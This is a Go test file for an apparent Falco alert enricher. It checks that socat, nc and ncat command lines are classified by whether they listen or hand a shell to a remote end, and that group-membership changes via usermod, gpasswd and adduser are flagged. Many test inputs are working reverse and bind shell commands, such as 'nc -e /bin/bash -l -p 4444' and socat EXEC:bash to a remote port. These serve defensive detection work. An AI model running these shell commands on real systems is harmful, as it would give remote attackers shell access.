package enrich_test

import (
	"strings"
	"testing"

	pb "github.com/falco-reporter/falco-reporter/gen/go/falcoreporter/v1"
)

// TestToolArguments: arguments are read by the options of the tool, and words of the program that it
// starts are not its own.
func TestToolArguments(t *testing.T) {
	e := enricher(t)
	const waits, hands = "to wait for connections", "to the other end"
	for _, tc := range []struct {
		cmd   string
		want  []string // parts of findings; with a leading ! of none
		level pb.UrgencyLevel
	}{
		{"socat -d -d -lmlocal2 TCP:10.0.0.1:80 STDIO", []string{"!" + waits, "!" + hands}, record},
		{"socat -lf /var/log/s.log TCP:10.0.0.1:80 STDIO", []string{"!" + waits, "!" + hands}, record},
		{"socat - UNIX-CONNECT:/run/SYSTEMD.sock", []string{"!" + waits, "!" + hands}, record},
		{"socat EXEC:bash -li,pty,stderr,sane TCP:203.0.113.9:4444", []string{"!" + waits, "the program “bash” " + hands}, page},
		{"socat TCP4:203.0.113.9:4444 EXEC:/bin/sh", []string{"!" + waits, "the program “/bin/sh” " + hands}, page},
		{"socat tcp-l:8080,fork,reuseaddr system:/bin/sh,pty", []string{waits + " on port 8080", "the program “/bin/sh” " + hands}, page},
		{"socat TCP:10.0.0.1:80!!TCP-LISTEN:81 STDIO", []string{waits + " on port 81"}, today},
		{"socat - EXEC:/bin/login,pty,ctty", []string{"!" + hands, "to run the program “/bin/login”; they name no connection"}, record},
		{"nc -c example.com 443", []string{"!" + waits, "!" + hands}, record},
		{"nc -zv -w 3 -c example.com 443", []string{"!" + waits, "!" + hands}, record},
		{"nc -c -e example.com 10.0.0.1 443", []string{"!" + hands}, record},
		{"nc 10.0.0.1 4444 -c /bin/sh", []string{"!" + waits, "the program “/bin/sh” " + hands}, page},
		{"nc -e /bin/bash -l 10.0.0.1 4444", []string{"!" + waits, "the program “/bin/bash” " + hands}, page},
		{"nc -e /bin/bash -l -p 4444", []string{waits + " on port 4444", hands}, page},
		{"nc -lvp4444 -e /bin/bash -li", []string{waits + " on port 4444", hands}, page},
		{"nc -w 3 -X connect -x proxy-l:3128 host 80", []string{"!" + waits}, record},
		{"nc -p 4444 -l", []string{waits + " on port 4444"}, today},
		{"ncat --listen --exec=/bin/sh 4444", []string{waits + " on port 4444", "the program “/bin/sh” " + hands}, page},
		{"ncat --ssl 10.0.0.1 443 --sh-exec id", []string{"!" + waits, "the program “id” " + hands}, page},
	} {
		name, _, _ := strings.Cut(tc.cmd, " ")
		r := e.Report(withFields(t, map[string]any{"evt.type": "execve", "evt.res": "SUCCESS", "proc.name": name, "proc.cmdline": tc.cmd, "container.id": "host"}))
		got := strings.Join(statements(r), "\n")
		for _, want := range tc.want {
			want, none := strings.CutPrefix(want, "!")
			if strings.Contains(got, want) == none {
				t.Errorf("%s: want %q, %t, in:\n%s", tc.cmd, want, !none, got)
			}
		}
		if level := r.GetUrgency().GetLevel(); level != tc.level {
			t.Errorf("%s: urgency %v; want %v", tc.cmd, r.GetUrgency(), tc.level)
		}
	}
}

// TestConfidenceOfHandedProgram: what one netcat takes for a command is no value to another.
func TestConfidenceOfHandedProgram(t *testing.T) {
	for cmd, want := range map[string]pb.Confidence{
		"nc 10.0.0.1 4444 -e /bin/sh": pb.Confidence_CONFIDENCE_CERTAIN,
		"nc 10.0.0.1 4444 -c /bin/sh": pb.Confidence_CONFIDENCE_LIKELY,
		"nc 10.0.0.1 4444 -e thing":   pb.Confidence_CONFIDENCE_LIKELY,
	} {
		r := enricher(t).Report(withFields(t, map[string]any{"evt.type": "execve", "proc.name": "nc", "proc.cmdline": cmd}))
		found := false
		for _, f := range r.GetShown() {
			if strings.Contains(f.GetStatement(), "hand the program") {
				if found = true; f.GetConfidence() != want {
					t.Errorf("%s: %v", cmd, f)
				}
			}
		}
		if !found {
			t.Errorf("%s: nothing found", cmd)
		}
	}
}

// TestAccountTools: who gets into a group that is as good as root, and who is taken out of it.
func TestAccountTools(t *testing.T) {
	e := enricher(t)
	const into, out = "ask to put “bob” into the group ", "ask to take “bob” out of the group "
	for cmd, tc := range map[string]struct {
		want  string
		level pb.UrgencyLevel
	}{
		"gpasswd -d bob sudo":                   {out + "“sudo”", record},
		"gpasswd --delete bob sudo":             {out + "“sudo”", record},
		"gpasswd -a bob sudo":                   {into + "“sudo”", today},
		"usermod -rG docker bob":                {out + "“docker”", record},
		"usermod --remove --groups=docker bob":  {out + "“docker”", record},
		"usermod -aG www,docker bob":            {into + "“docker”", today},
		"usermod bob -aG docker":                {into + "“docker”", today},
		"usermod -c admin bob":                  {"!group", record},
		"usermod -d /home/bob -s /bin/bash bob": {"!group", record},
		"useradd -m -G sudo bob":                {into + "“sudo”", today},
		"useradd -D -s /bin/bash":               {"!account", record},
		"adduser bob sudo":                      {into + "“sudo”", today},
		"adduser --system bob":                  {"ask to add the account “bob”", today},
	} {
		name, _, _ := strings.Cut(cmd, " ")
		r := e.Report(withFields(t, map[string]any{"evt.type": "execve", "evt.res": "SUCCESS", "proc.name": name, "proc.cmdline": cmd, "container.id": "host"}))
		got := strings.Join(statements(r), "\n")
		if want, none := strings.CutPrefix(tc.want, "!"); strings.Contains(got, want) == none {
			t.Errorf("%s: want %q in:\n%s", cmd, tc.want, got)
		}
		if level := r.GetUrgency().GetLevel(); level != tc.level {
			t.Errorf("%s: urgency %v; want %v", cmd, r.GetUrgency(), tc.level)
		}
	}
}
